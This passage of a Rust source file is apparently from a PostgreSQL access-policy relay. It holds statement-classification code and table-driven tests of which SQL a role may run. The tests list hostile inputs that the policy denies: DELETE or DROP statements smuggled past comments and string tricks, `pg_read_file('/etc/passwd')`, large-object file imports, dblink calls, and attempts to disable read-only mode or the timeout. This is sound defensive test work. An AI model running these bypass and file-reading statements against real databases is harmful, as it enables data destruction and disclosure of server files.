//! Statement policy: what a grant's role may run. Pure functions only — no I/O, no clock, no
//! globals — so the relay, `timebox check` and the tests all ask the same question the same way.
//!
//! Data flow: the relay hands the text of a simple Query (or of a Parse) to [`classify()`] (or to a
//! [`ClassifyCache`] in front of it), gets one [`StatementInfo`] per statement, and asks
//! [`authorize_all`] with the session's [`RolePolicy`]. One denied statement denies the whole
//! message. This module must never let a statement through because it could not understand it:
//! anything the two parsers (PostgreSQL's own, then sqlparser) do not agree on is
//! [`StatementClass::Unparsed`] and is denied unless the role has `allow_unparsed`.
//!
//! - [`classify`](mod@classify): SQL text → classes, relations, functions, flags (its module doc
//!   explains the split and the cross-check).
//! - [`authorize`](mod@authorize): role + statement → [`Decision`] with a reason and a hint.
//! - [`functions`]: the maintained lists (functions, operators, settings).
//! - [`appname`]: `application_name` keeps timebox's tag (`SET` rewritten, the rest denied).
//! - [`cache`](mod@cache): [`ClassifyCache`], the bounded cache the relay classifies through.
//! - [`shape`]: statement texts with their literals abstracted, and when a classification holds
//!   for every text of its shape (the cache's second level).
//! - [`version`]: the target's version, and the newer-grammar constructs and built-ins older
//!   targets call as functions by name.
//!
//! # Known limits of SQL-level enforcement
//! The upstream credential of each role is the real boundary behind this layer. What the text of a
//! statement cannot show:
//! - views, rules, triggers, column defaults and row-level security policies run code the statement
//!   does not name; built-in operator symbols and casts on user-defined types call user functions;
//! - a `search_path` set with `ALTER ROLE`/`ALTER DATABASE` can put schemas before `pg_catalog`, so
//!   unqualified built-in names could reach user functions (only session `SET`s are checked);
//! - unqualified relations are checked as `public.NAME`, and `pg_*` names as `pg_catalog.NAME` too
//!   (PostgreSQL searches `pg_catalog` first; allowed only if both are); sessions of roles with
//!   table rules run with `search_path = public`, pinned in the upstream startup, and may not change
//!   it (at startup or with `SET`);
//! - `EXECUTE name` is only as safe as what `name` was prepared with: the relay must look up the
//!   class it tracked at `PREPARE`/Parse time ([`StatementInfo::execute_name`]);
//! - `require_where` accepts any `WHERE` (also `WHERE true`): it guards against accidents; a
//!   `MERGE` action must be filtered by an `ON` or `WHEN … AND` condition that names a column;
//! - the classifier parses with PostgreSQL 18's grammar; what an older target makes of newer syntax
//!   and built-ins is decided per session by [`version`] and [`authorize_on`];
//! - lexing assumes `standard_conforming_strings = on` and UTF8: the relay must fail closed when
//!   the server reports otherwise;
//! - PostgreSQL syntax sqlparser does not know (`TABLE t`, `FOR NO KEY UPDATE`, `ROWS FROM`,
//!   `WHERE CURRENT OF`, `SET CONSTRAINTS`, `DO`, `CHECKPOINT`, `ALTER SYSTEM`, `U&""`, custom
//!   operators) is `Unparsed`: denied unless the role has `allow_unparsed`;
//! - the function lists are maintained by hand: an unlisted built-in counts as `write` until it is
//!   added to [`functions`] or to the role's `allow_functions`.

pub mod appname;
pub mod authorize;
pub mod cache;
pub mod classify;
pub mod functions;
pub mod shape;
pub mod version;

use std::fmt::Write as _;

pub use authorize::{authorize, authorize_all, authorize_all_on, authorize_on, Decision, RolePolicy};
pub use cache::ClassifyCache;
pub use classify::{
    classify, ClassReason, Classification, CopyDirection, Deallocate, Relation, SetValue, SettingChange,
    StatementClass, StatementInfo,
};
pub use version::{NewerSyntax, ServerVersion};

use crate::config::Config;

/// `timebox check --config FILE --role ROLE "SQL"`: a human-readable report of each statement's
/// class, relations and decision, and whether the whole text would be allowed.
pub fn check_command(config: &Config, role: &str, sql: &str) -> (String, bool) {
    let mut out = String::new();
    let Some(role_config) = config.roles.get(role) else {
        let known: Vec<&str> = config.roles.keys().map(String::as_str).collect();
        let _ = writeln!(
            out,
            "unknown role {role:?}; the config defines: {}",
            if known.is_empty() {
                "no roles".to_string()
            } else {
                known.join(", ")
            }
        );
        return (out, false);
    };
    let policy = RolePolicy::from_role(role_config);
    let classification = classify(sql);
    let _ = writeln!(
        out,
        "role {} (allows {}{})",
        policy.name,
        if policy.allow.is_empty() {
            "nothing".to_string()
        } else {
            policy
                .allow
                .iter()
                .map(|c| c.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        },
        if policy.allow_unparsed { ", unparsed" } else { "" }
    );
    let _ = writeln!(
        out,
        "checked for a {} target, the oldest supported (a session is checked for its target's version)",
        ServerVersion::OLDEST
    );
    if classification.is_empty() {
        let _ = writeln!(out, "no statements (empty query): allowed");
        return (out, true);
    }
    let n = classification.statements.len();
    for (i, stmt) in classification.statements.iter().enumerate() {
        let text = sql.get(stmt.span.clone()).unwrap_or("").trim();
        let _ = writeln!(out, "\nstatement {} of {n}: {}", i + 1, one_line(text, 100));
        let _ = writeln!(out, "  kind:      {}", stmt.kind);
        let _ = writeln!(out, "  class:     {}", stmt.class);
        for r in &stmt.reasons {
            let _ = writeln!(out, "    {:<9} {}", r.class.as_str(), r.why);
        }
        if !stmt.relations.is_empty() {
            let rels: Vec<String> = stmt.relations.iter().map(|r| r.to_string()).collect();
            let _ = writeln!(out, "  relations: {}", rels.join(", "));
        }
        if !stmt.functions.is_empty() {
            let _ = writeln!(out, "  functions: {}", stmt.functions.join(", "));
        }
        if !stmt.unknown_functions.is_empty() {
            let _ = writeln!(
                out,
                "  not known to be read-only: {}",
                stmt.unknown_functions.join(", ")
            );
        }
        match authorize(&policy, stmt) {
            Decision::Allow => {
                let _ = writeln!(out, "  decision:  allowed");
            }
            Decision::Deny { reason, hint } => {
                let _ = writeln!(out, "  decision:  denied: {reason}");
                let _ = writeln!(out, "  hint:      {hint}");
            }
        }
    }
    let overall = authorize_all(&policy, &classification);
    let _ = writeln!(out, "\n{}", if overall.is_allow() { "allowed" } else { "denied" });
    (out, overall.is_allow())
}

/// The statement on one line; line breaks show as `↵` (they end `--` comments, so they matter).
fn one_line(text: &str, max: usize) -> String {
    let flat: String = text
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect::<Vec<_>>()
        .join(" ↵ ");
    if flat.chars().count() > max {
        let cut: String = flat.chars().take(max).collect();
        format!("{cut}…")
    } else {
        flat
    }
}

#[cfg(test)]
mod tests {
    //! Table-driven tests of classify + authorize. Every row is named for what it guards against;
    //! the benign rows make a deny-everything policy fail the suite.

    use std::time::Duration;

    use super::*;
    use crate::config::TableRules;
    use StatementClass::*;

    /// Test roles:
    /// - `read`: read only, statement_timeout cap 30s.
    /// - `write`: read + write, require_where, cap 60s.
    /// - `ddl`: read + write + ddl.
    /// - `read_ddl`: read + ddl without write (every class a statement needs must be allowed).
    /// - `admin`: everything, allow_unparsed (break-glass).
    /// - `admin_parsed`: everything but allow_unparsed.
    /// - `tables`: read with table rules and allow_functions.
    /// - `nothing`: no classes at all.
    fn role(key: &str) -> RolePolicy {
        let mut r = match key {
            "read" => RolePolicy::with_classes("read", &[Read]),
            "write" => RolePolicy::with_classes("write", &[Read, Write]),
            "ddl" => RolePolicy::with_classes("ddl", &[Read, Write, Ddl]),
            "read_ddl" => RolePolicy::with_classes("read_ddl", &[Read, Ddl]),
            "admin" | "admin_parsed" => RolePolicy::with_classes(key, &[Read, Write, Ddl, Admin]),
            "tables" => RolePolicy::with_classes("tables", &[Read]),
            "nothing" => RolePolicy::with_classes("nothing", &[]),
            other => panic!("no test role {other}"),
        };
        match key {
            "read" => r.statement_timeout = Some(Duration::from_secs(30)),
            "write" => {
                r.require_where = true;
                r.statement_timeout = Some(Duration::from_secs(60));
            }
            "admin" => r.allow_unparsed = true,
            "tables" => {
                r.tables = Some(TableRules {
                    allow: vec!["public.*".into(), "sales.*".into()],
                    deny: vec![
                        "public.secrets".into(),
                        "*.audit_log".into(),
                        "pg_catalog.pg_authid".into(),
                    ],
                });
                r.allow_functions = vec!["report_totals".into(), "app.safe_fn".into()];
            }
            _ => {}
        }
        r
    }

    /// Expected decision: allowed, or denied with a reason containing the text.
    pub(super) enum E {
        Allow,
        Deny(&'static str),
    }
    use E::{Allow, Deny};

    /// (what the row guards against, role, SQL, expected decision)
    pub(super) const CASES: &[(&str, &str, &str, E)] = &[
        // ---- benign reads a read role must be able to run ----------------------------------------
        ("pgbench_select_is_a_read", "read", "SELECT abalance FROM pgbench_accounts WHERE aid = $1;", Allow),
        ("select_literal", "read", "SELECT 1", Allow),
        ("inner_join", "read", "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id", Allow),
        ("left_join_with_aggregates", "read", "SELECT c.id, count(o.id), sum(o.total), avg(o.total), max(o.created_at) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.id HAVING count(*) > 1", Allow),
        ("window_functions", "read", "SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY created_at DESC), lag(total) OVER w, rank() OVER w FROM orders WINDOW w AS (ORDER BY id)", Allow),
        ("cte_read", "read", "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", Allow),
        ("recursive_cte_read", "read", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT sum(n) FROM r", Allow),
        ("subquery_in_where", "read", "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE country = 'NL')", Allow),
        ("correlated_exists", "read", "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)", Allow),
        ("lateral_join", "read", "SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id ORDER BY o.id DESC LIMIT 1) l", Allow),
        ("union_intersect", "read", "SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c", Allow),
        ("values_list", "read", "VALUES (1, 'a'), (2, 'b')", Allow),
        ("distinct_on_order_limit_offset", "read", "SELECT DISTINCT ON (customer_id) * FROM orders ORDER BY customer_id, id DESC LIMIT 10 OFFSET 20", Allow),
        ("aggregate_filter", "read", "SELECT count(*) FILTER (WHERE total > 100), string_agg(name, ', ' ORDER BY name), array_agg(id) FROM orders", Allow),
        ("json_operators_and_functions", "read", "SELECT data->>'name', data #> '{a,b}', jsonb_build_object('k', id), to_jsonb(o) FROM orders o WHERE data ? 'name' AND data @> '{\"x\":1}'", Allow),
        ("string_and_date_functions", "read", "SELECT lower(name), upper(name), coalesce(nick, name), date_trunc('day', created_at), to_char(created_at, 'YYYY'), length(name), substr(name, 1, 3) FROM customers", Allow),
        ("sql_syntax_functions", "read", "SELECT EXTRACT(epoch FROM now()), position('a' in name), substring(name from 1 for 2), trim(both ' ' from name), now() AT TIME ZONE 'UTC', CURRENT_DATE, CURRENT_TIMESTAMP, current_user FROM customers", Allow),
        ("casts", "read", "SELECT x::text, CAST(y AS integer), 'orders'::regclass::oid, int4('1') FROM t", Allow),
        ("regex_like_any_distinct", "read", "SELECT * FROM customers WHERE name ~* '^a' AND name NOT LIKE '%x' AND id = ANY($1) AND nick IS DISTINCT FROM name AND id BETWEEN 1 AND 9", Allow),
        ("set_returning_functions", "read", "SELECT * FROM generate_series(1, 10) g, unnest(ARRAY[1, 2]) u, json_to_recordset('[{\"a\":1}]') AS x(a int)", Allow),
        ("tablesample", "read", "SELECT * FROM orders TABLESAMPLE SYSTEM (1)", Allow),
        ("session_information_functions", "read", "SELECT version(), current_database(), current_setting('statement_timeout'), pg_backend_pid(), pg_size_pretty(pg_total_relation_size('orders'))", Allow),
        ("catalog_query_like_psql", "read", "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind = 'r' AND pg_catalog.pg_table_is_visible(c.oid)", Allow),
        ("information_schema_query", "read", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", Allow),
        ("pg_sleep_is_only_time", "read", "SELECT pg_sleep(0.1)", Allow),
        ("currval_only_reads", "read", "SELECT currval('orders_id_seq')", Allow),
        ("show_setting", "read", "SHOW statement_timeout", Allow),
        ("show_all", "read", "SHOW ALL", Allow),
        ("explain_select", "read", "EXPLAIN SELECT * FROM orders WHERE id = 1", Allow),
        ("explain_with_options", "read", "EXPLAIN (FORMAT JSON, COSTS false) SELECT * FROM orders", Allow),
        ("explain_analyze_of_a_select_is_a_read", "read", "EXPLAIN ANALYZE SELECT count(*) FROM orders", Allow),
        ("explain_without_analyze_does_not_run_the_delete", "read", "EXPLAIN DELETE FROM orders WHERE id = 1", Allow),
        ("explain_analyze_false_does_not_run_the_delete", "read", "EXPLAIN (ANALYZE false) DELETE FROM orders", Allow),
        ("explain_analyze_off_does_not_run_the_update", "read", "EXPLAIN (ANALYZE off, VERBOSE) UPDATE orders SET total = 0", Allow),
        ("begin", "read", "BEGIN", Allow),
        ("begin_isolation_level", "read", "BEGIN ISOLATION LEVEL REPEATABLE READ", Allow),
        ("begin_read_only", "read", "BEGIN READ ONLY", Allow),
        ("start_transaction_read_only", "read", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY", Allow),
        ("commit", "read", "COMMIT", Allow),
        ("rollback", "read", "ROLLBACK", Allow),
        ("savepoint", "read", "SAVEPOINT before_report", Allow),
        ("release_savepoint", "read", "RELEASE SAVEPOINT before_report", Allow),
        ("rollback_to_savepoint", "read", "ROLLBACK TO SAVEPOINT before_report", Allow),
        ("transaction_block_of_reads", "read", "BEGIN; SELECT * FROM orders; COMMIT;", Allow),
        ("set_search_path", "read", "SET search_path = public, app", Allow),
        ("set_statement_timeout_below_cap", "read", "SET statement_timeout = '10s'", Allow),
        ("set_statement_timeout_milliseconds_below_cap", "read", "SET statement_timeout = 5000", Allow),
        ("set_statement_timeout_at_cap", "read", "SET statement_timeout TO '30s'", Allow),
        ("set_session_statement_timeout_below_cap", "read", "SET SESSION statement_timeout = '20s'", Allow),
        ("set_datestyle", "read", "SET DateStyle = 'ISO, DMY'", Allow),
        ("set_timezone", "read", "SET TimeZone = 'Europe/Amsterdam'", Allow),
        ("set_time_zone_syntax", "read", "SET TIME ZONE 'UTC'", Allow),
        ("set_application_name", "read", "SET application_name = 'monthly-report'", Allow),
        ("set_client_encoding_utf8", "read", "SET client_encoding = 'UTF8'", Allow),
        ("set_names_utf8", "read", "SET NAMES 'UTF8'", Allow),
        ("set_extra_float_digits_like_jdbc", "read", "SET extra_float_digits = 3", Allow),
        ("set_client_min_messages", "read", "SET client_min_messages = warning", Allow),
        ("set_lock_timeout", "read", "SET lock_timeout = '5s'", Allow),
        ("set_work_mem", "read", "SET work_mem = '64MB'", Allow),
        ("set_planner_switch", "read", "SET enable_seqscan = off", Allow),
        ("set_read_only_on_keeps_it_on", "read", "SET default_transaction_read_only = on", Allow),
        ("set_transaction_isolation", "read", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Allow),
        ("set_transaction_read_only", "read", "SET TRANSACTION READ ONLY", Allow),
        ("reset_application_name", "read", "RESET application_name", Allow),
        ("declare_cursor_over_read", "read", "DECLARE c CURSOR FOR SELECT * FROM orders", Allow),
        ("declare_cursor_with_hold_over_read", "read", "DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT id FROM orders", Allow),
        ("fetch_from_cursor", "read", "FETCH FORWARD 100 FROM c", Allow),
        ("close_cursor", "read", "CLOSE c", Allow),
        ("prepare_read", "read", "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1", Allow),
        ("execute_prepared", "read", "EXECUTE q(1)", Allow),
        ("deallocate_prepared", "read", "DEALLOCATE q", Allow),
        ("copy_table_to_stdout", "read", "COPY orders TO STDOUT", Allow),
        ("copy_query_to_stdout_csv", "read", "COPY (SELECT id, total FROM orders) TO STDOUT WITH (FORMAT csv, HEADER)", Allow),
        ("listen", "read", "LISTEN order_events", Allow),
        ("unlisten", "read", "UNLISTEN *", Allow),
        ("empty_query_is_a_no_op", "read", "", Allow),
        ("only_comments_is_a_no_op", "read", "-- nothing here\n/* nor here */", Allow),
        ("only_semicolons_is_a_no_op", "read", ";;;", Allow),
        ("several_reads_in_one_message", "read", "SELECT 1; SELECT 2;", Allow),
        ("case_and_whitespace_in_a_read", "read", "sElEcT\t*\nFrOm\r\norders\u{0C}WHERE id=1", Allow),
        ("sql_inside_a_string_is_data", "read", "SELECT 'DROP TABLE x; DELETE FROM y'", Allow),
        ("doubled_quote_keeps_the_string_open", "read", "SELECT '1'';DELETE FROM t;--'", Allow),
        ("sql_after_line_comment_is_comment", "read", "SELECT 1 -- ; DELETE FROM t", Allow),
        ("sql_in_block_comment_is_comment", "read", "/* DELETE FROM t; */ SELECT 1", Allow),
        ("nested_block_comment_hides_nothing", "read", "SELECT 1 /* outer /* inner */ ; DELETE FROM t; */", Allow),
        ("dollar_quoted_sql_is_data", "read", "SELECT $$; DELETE FROM t; $$", Allow),
        ("tagged_dollar_quote_is_data", "read", "SELECT $body$ $$ ; DELETE FROM t; $body$", Allow),
        ("e_string_escaped_quote_is_data", "read", "SELECT E'it\\'s; DELETE FROM t; --'", Allow),
        ("quoted_identifier_named_like_sql", "read", "SELECT 1 AS \"DELETE FROM t;\"", Allow),
        ("operator_then_line_comment", "read", "SELECT 1 +-- ; DELETE FROM t\n2", Allow),
        ("operator_does_not_absorb_line_comment", "read", "SELECT 1 <--; DELETE FROM t\n+ 2", Allow),
        ("operator_does_not_absorb_block_comment", "read", "SELECT 2 */* ; DELETE FROM t */ 3", Allow),
        // ---- writes a read role must not run -------------------------------------------------------
        ("insert", "read", "INSERT INTO orders (id) VALUES (1)", Deny("INSERT needs write access")),
        ("update", "read", "UPDATE orders SET total = 0 WHERE id = 1", Deny("needs write access")),
        ("delete", "read", "DELETE FROM orders WHERE id = 1", Deny("needs write access")),
        ("merge", "read", "MERGE INTO orders o USING staged s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total", Deny("needs write access")),
        ("upsert", "read", "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO NOTHING", Deny("needs write access")),
        ("case_tricks_in_delete", "read", "DeLeTe\n\tFrOm orders WHERE id = 1", Deny("needs write access")),
        ("comments_instead_of_whitespace", "read", "SELECT/**/1;DELETE/**/FROM/**/orders/**/WHERE/**/id=1", Deny("statement 2 of 2")),
        ("non_breaking_space_is_not_whitespace", "read", "DELETE\u{a0}FROM orders WHERE id = 1", Deny("could not be verified")),
        ("cte_that_deletes", "read", "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", Deny("data-modifying DELETE")),
        ("cte_that_inserts", "read", "WITH i AS (INSERT INTO log (msg) VALUES ('x') RETURNING id) SELECT * FROM i", Deny("data-modifying INSERT")),
        ("cte_that_updates_inside_a_subquery", "read", "SELECT * FROM (WITH u AS (UPDATE orders SET total = 0 WHERE id = 1 RETURNING id) SELECT * FROM u) s", Deny("data-modifying UPDATE")),
        ("nested_cte_dml", "read", "WITH a AS (WITH b AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a", Deny("data-modifying DELETE")),
        ("with_prefixed_insert", "read", "WITH x AS (SELECT 1 AS id) INSERT INTO orders (id) SELECT id FROM x", Deny("needs write access")),
        ("select_for_update_locks_rows", "read", "SELECT * FROM orders WHERE id = 1 FOR UPDATE", Deny("locks rows")),
        ("select_for_share_locks_rows", "read", "SELECT * FROM orders FOR SHARE", Deny("locks rows")),
        ("select_for_no_key_update_denied_either_way", "read", "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", Deny("")),
        ("locking_clause_in_a_subquery", "read", "SELECT * FROM (SELECT * FROM orders FOR SHARE) s", Deny("locks rows")),
        ("key_share_lock_in_a_subquery_denied_either_way", "read", "SELECT * FROM (SELECT * FROM orders FOR KEY SHARE) s", Deny("")),
        ("locking_clause_in_a_cte", "read", "WITH l AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM l", Deny("locks rows")),
        ("nextval_changes_a_sequence", "read", "SELECT nextval('orders_id_seq')", Deny("nextval()")),
        ("setval_changes_a_sequence", "read", "SELECT setval('orders_id_seq', 1)", Deny("setval()")),
        ("qualified_nextval", "read", "SELECT pg_catalog.nextval('orders_id_seq')", Deny("nextval()")),
        ("quoted_nextval", "read", "SELECT \"nextval\"('orders_id_seq')", Deny("nextval()")),
        ("nextval_in_where", "read", "SELECT * FROM orders WHERE id = nextval('s')", Deny("nextval()")),
        ("nextval_in_order_by", "read", "SELECT * FROM orders ORDER BY nextval('s')", Deny("nextval()")),
        ("nextval_in_case", "read", "SELECT CASE WHEN true THEN nextval('s') END", Deny("nextval()")),
        ("nextval_in_values", "read", "VALUES (nextval('s'))", Deny("nextval()")),
        ("nextval_in_lateral", "read", "SELECT * FROM orders, LATERAL (SELECT nextval('s')) x", Deny("nextval()")),
        ("advisory_lock", "read", "SELECT pg_advisory_lock(42)", Deny("pg_advisory_lock()")),
        ("txid_current_assigns_an_xid", "read", "SELECT txid_current()", Deny("txid_current()")),
        ("pg_notify", "read", "SELECT pg_notify('ch', 'x')", Deny("pg_notify()")),
        ("user_defined_function_counts_as_write", "read", "SELECT refresh_totals()", Deny("refresh_totals()")),
        ("user_function_in_other_schema", "read", "SELECT app.do_things(1)", Deny("app.do_things()")),
        ("builtin_name_in_public_schema_is_user_defined", "read", "SELECT public.lower('x')", Deny("public.lower()")),
        ("quoted_upper_case_name_is_another_function", "read", "SELECT \"LOWER\"('x')", Deny("LOWER()")),
        ("user_defined_operator", "read", "SELECT 1 OPERATOR(public.+) 2", Deny("")),
        ("explain_analyze_runs_the_delete", "read", "EXPLAIN ANALYZE DELETE FROM orders", Deny("needs write access")),
        ("explain_parenthesised_analyze", "read", "EXPLAIN (ANALYZE) DELETE FROM orders", Deny("needs write access")),
        ("explain_analyze_true", "read", "EXPLAIN (ANALYZE true, BUFFERS) UPDATE orders SET total = 0", Deny("needs write access")),
        ("explain_analyze_on", "read", "EXPLAIN (ANALYZE on) INSERT INTO orders (id) VALUES (1)", Deny("needs write access")),
        ("explain_analyze_as_second_option", "read", "EXPLAIN (VERBOSE, ANALYZE) DELETE FROM orders", Deny("needs write access")),
        ("explain_analyze_verbose_old_syntax", "read", "EXPLAIN ANALYZE VERBOSE UPDATE orders SET total = 0", Deny("needs write access")),
        ("explain_analyze_of_cte_dml", "read", "EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d", Deny("data-modifying DELETE")),
        ("explain_analyze_of_nextval", "read", "EXPLAIN ANALYZE SELECT nextval('s')", Deny("nextval()")),
        ("explain_without_analyze_still_counts_functions", "read", "EXPLAIN SELECT nextval('s')", Deny("nextval()")),
        ("prepare_delete", "read", "PREPARE p(int) AS DELETE FROM orders WHERE id = $1", Deny("needs write access")),
        ("prepare_insert", "read", "PREPARE p AS INSERT INTO orders (id) VALUES (1)", Deny("needs write access")),
        ("prepare_locking_select", "read", "PREPARE p AS SELECT * FROM orders FOR UPDATE", Deny("locks rows")),
        ("execute_with_side_effecting_argument", "read", "EXECUTE q(nextval('s'))", Deny("nextval()")),
        ("declare_cursor_for_update", "read", "DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE", Deny("locks rows")),
        ("declare_cursor_calling_nextval", "read", "DECLARE c CURSOR FOR SELECT nextval('s') FROM orders", Deny("nextval()")),
        ("copy_from_stdin_loads_rows", "read", "COPY orders FROM STDIN", Deny("COPY … FROM STDIN loads rows")),
        ("copy_from_stdin_csv", "read", "COPY orders (id, total) FROM STDIN WITH (FORMAT csv)", Deny("needs write access")),
        ("text_after_copy_from_stdin_is_not_swallowed", "write", "COPY orders FROM STDIN; DROP TABLE orders", Deny("DROP")),
        ("text_after_copy_to_stdout_is_classified", "read", "COPY orders TO STDOUT; DELETE FROM orders", Deny("statement 2 of 2")),
        ("copy_query_with_dml_returning", "read", "COPY (DELETE FROM orders RETURNING *) TO STDOUT", Deny("data-modifying DELETE")),
        ("lock_table", "read", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", Deny("LOCK takes table locks")),
        ("notify", "read", "NOTIFY order_events, 'x'", Deny("needs write access")),
        ("second_statement_after_semicolon", "read", "SELECT 1; DELETE FROM orders", Deny("statement 2 of 2")),
        ("second_statement_without_space", "read", "SELECT 1;DELETE FROM orders", Deny("statement 2 of 2")),
        ("second_statement_on_next_line", "read", "SELECT 1\n;\nDELETE FROM orders", Deny("needs write access")),
        ("second_statement_after_block_comment", "read", "SELECT 1 /* ; */; DELETE FROM orders", Deny("needs write access")),
        ("line_comment_ends_at_newline", "read", "SELECT 1 --\n; DELETE FROM orders", Deny("needs write access")),
        ("e_string_escaped_backslash_ends_the_string", "read", "SELECT E'\\\\'; DELETE FROM orders; --'", Deny("needs write access")),
        ("standard_string_backslash_does_not_escape", "read", "SELECT '\\'; DELETE FROM orders; --'", Deny("needs write access")),
        ("dollar_quote_closed_before_the_dml", "read", "SELECT $a$ $b$ $a$; DELETE FROM orders", Deny("needs write access")),
        ("non_ascii_dollar_tag_then_dml", "read", "SELECT $é$ ; $é$; DROP TABLE orders", Deny("")),
        ("many_statements_one_write", "read", "SELECT 1; SELECT 2; SELECT 3; UPDATE orders SET total = 0 WHERE id = 1; SELECT 4", Deny("statement 4 of 5")),
        ("transaction_wrapping_a_write", "read", "BEGIN; DELETE FROM orders WHERE id = 1; COMMIT;", Deny("statement 2 of 3")),
        // ---- turning off read-only (second line of defence) ----------------------------------------
        ("begin_read_write", "read", "BEGIN READ WRITE", Deny("READ WRITE")),
        ("start_transaction_read_write", "read", "START TRANSACTION READ WRITE", Deny("READ WRITE")),
        ("begin_isolation_and_read_write", "read", "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE", Deny("READ WRITE")),
        ("set_transaction_read_write", "read", "SET TRANSACTION READ WRITE", Deny("turns off read-only")),
        ("set_session_characteristics_read_write", "read", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", Deny("turns off read-only")),
        ("set_default_read_only_off", "read", "SET default_transaction_read_only = off", Deny("turns off read-only")),
        ("set_default_read_only_false", "read", "SET default_transaction_read_only TO false", Deny("turns off read-only")),
        ("set_default_read_only_zero", "read", "SET default_transaction_read_only = 0", Deny("turns off read-only")),
        ("set_default_read_only_to_default", "read", "SET default_transaction_read_only TO DEFAULT", Deny("turns off read-only")),
        ("set_default_read_only_quoted_mixed_case", "read", "sEt \"Default_Transaction_Read_Only\" = 'OfF'", Deny("turns off read-only")),
        ("set_session_default_read_only_off", "read", "SET SESSION default_transaction_read_only = off", Deny("turns off read-only")),
        ("reset_default_read_only", "read", "RESET default_transaction_read_only", Deny("turns off read-only")),
        ("set_transaction_read_only_off", "read", "SET transaction_read_only = off", Deny("turns off read-only")),
        ("set_config_default_read_only", "read", "SELECT set_config('default_transaction_read_only', 'off', false)", Deny("turns off read-only")),
        ("set_config_transaction_read_only", "read", "SELECT set_config('transaction_read_only', 'false', true)", Deny("turns off read-only")),
        ("reset_all", "read", "RESET ALL", Deny("resets every setting")),
        ("discard_all", "read", "DISCARD ALL", Deny("resets every setting")),
        ("user_function_named_set_config", "read", "SELECT public.set_config('application_name', 'x', false)", Deny("public.set_config()")),
        ("set_config_with_computed_name", "read", "SELECT set_config(current_setting('app.name'), 'off', false)", Deny("not a literal")),
        // ---- statement_timeout cap -------------------------------------------------------------------
        ("statement_timeout_zero_disables_it", "read", "SET statement_timeout = 0", Deny("disables the timeout")),
        ("statement_timeout_above_cap", "read", "SET statement_timeout = '1h'", Deny("above this role's cap")),
        ("statement_timeout_milliseconds_above_cap", "read", "SET statement_timeout = 3600000", Deny("above this role's cap")),
        ("statement_timeout_local_above_cap", "read", "SET LOCAL statement_timeout = '1min'", Deny("above this role's cap")),
        ("statement_timeout_default_lifts_cap", "read", "SET statement_timeout TO DEFAULT", Deny("lift this role's cap")),
        ("statement_timeout_reset_lifts_cap", "read", "RESET statement_timeout", Deny("lift this role's cap")),
        ("statement_timeout_via_set_config", "read", "SELECT set_config('statement_timeout', '0', false)", Deny("disables the timeout")),
        ("statement_timeout_not_a_literal", "read", "SELECT set_config('statement_timeout', current_setting('x'), false)", Deny("not a literal")),
        ("statement_timeout_garbage", "read", "SET statement_timeout = '5 fortnights'", Deny("not a duration")),
        ("reset_all_lifts_cap_even_for_write", "write", "RESET ALL", Deny("lift this role's cap")),
        // ---- dangerous functions (admin) ---------------------------------------------------------
        ("terminate_backend", "read", "SELECT pg_terminate_backend(1234)", Deny("signals another backend")),
        ("cancel_backend", "write", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity", Deny("signals another backend")),
        ("reload_conf", "ddl", "SELECT pg_reload_conf()", Deny("needs admin access")),
        ("read_server_file", "read", "SELECT pg_read_file('/etc/passwd')", Deny("reads files on the database server")),
        ("read_server_file_in_from", "read", "SELECT * FROM pg_read_file('/etc/passwd') f", Deny("pg_read_file()")),
        ("read_binary_file_qualified", "read", "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", Deny("pg_read_binary_file()")),
        ("ls_dir", "read", "SELECT * FROM pg_ls_dir('.')", Deny("lists server directories")),
        ("rows_from_hides_a_function", "admin_parsed", "SELECT * FROM ROWS FROM (pg_ls_dir('.'))", Deny("")),
        ("function_in_lateral_from", "read", "SELECT * FROM orders o, LATERAL pg_ls_dir(o.path) d", Deny("pg_ls_dir()")),
        ("large_object_import", "write", "SELECT lo_import('/etc/passwd')", Deny("large objects")),
        ("large_object_export", "write", "SELECT lo_export(1234, '/tmp/x')", Deny("large objects")),
        ("large_object_read", "read", "SELECT lo_get(1234)", Deny("large objects")),
        ("dblink", "read", "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", Deny("connects to another database")),
        ("dblink_exec", "write", "SELECT dblink_exec('host=x', 'DROP TABLE t')", Deny("connects to another database")),
        ("query_to_xml_runs_query_text", "read", "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')", Deny("executes the query text")),
        ("table_to_xml_bypasses_table_rules", "read", "SELECT table_to_xml('orders', true, false, '')", Deny("table named by a string")),
